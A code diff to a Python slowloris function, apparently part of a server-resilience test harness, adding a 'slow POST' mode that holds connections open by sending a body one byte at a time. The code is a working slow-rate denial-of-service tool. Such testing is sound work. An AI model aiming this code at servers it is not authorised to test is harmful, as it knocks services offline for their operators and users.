@@ -190,11 +190,14 @@ def slowloris(
     host_header: str = "127.0.0.1",
     connect_timeout: float = 10.0,
     connected: threading.Event | None = None,
+    body_length: int = 0,
 ) -> SlowlorisResult:
     """Open `count` sockets that trickle a request head for at most `duration` s; return fates.
 
     Each socket sends `GET path HTTP/1.1` and a Host line at once, then one more header line
-    every `interval` s, never the blank line that ends the head. A socket the server closes
+    every `interval` s, never the blank line that ends the head. With `body_length` > 0 each
+    sends instead a complete `POST` head announcing that many body bytes, then one body byte
+    every `interval` s (a slow POST), never completing the body. A socket the server closes
     (or resets) is recorded with the time since the attack's sockets were all connected; the
     rest are closed by us when `duration` runs out, or earlier once the server ended them all.
     `connected` is set once every socket has sent its first bytes (so a canary can start then).
@@ -205,7 +208,13 @@ def slowloris(
     socks, fates = _connect_all(host, port, count, connect_started + connect_timeout)
     started = time.monotonic()
     deadline = started + duration
-    head = f"GET {path} HTTP/1.1\r\nHost: {host_header}\r\n".encode()
+    if body_length > 0:
+        head = (
+            f"POST {path} HTTP/1.1\r\nHost: {host_header}\r\n"
+            f"Content-Type: application/octet-stream\r\nContent-Length: {body_length}\r\n\r\n"
+        ).encode()
+    else:
+        head = f"GET {path} HTTP/1.1\r\nHost: {host_header}\r\n".encode()
     selector = selectors.DefaultSelector()
     live: dict[int, int] = {}  # fileno -> index
     try:
@@ -235,7 +244,10 @@ def slowloris(
                     live.pop(sock.fileno(), None)
             if time.monotonic() >= next_trickle:
                 line += 1
-                trickle = f"X-Trickle-{line}: {line}\r\n".encode()
+                if body_length > 0:
+                    trickle = b"a" if line < body_length else b""
+                else:
+                    trickle = f"X-Trickle-{line}: {line}\r\n".encode()
                 for index in list(live.values()):
                     sock = socks[index]
                     assert sock is not None
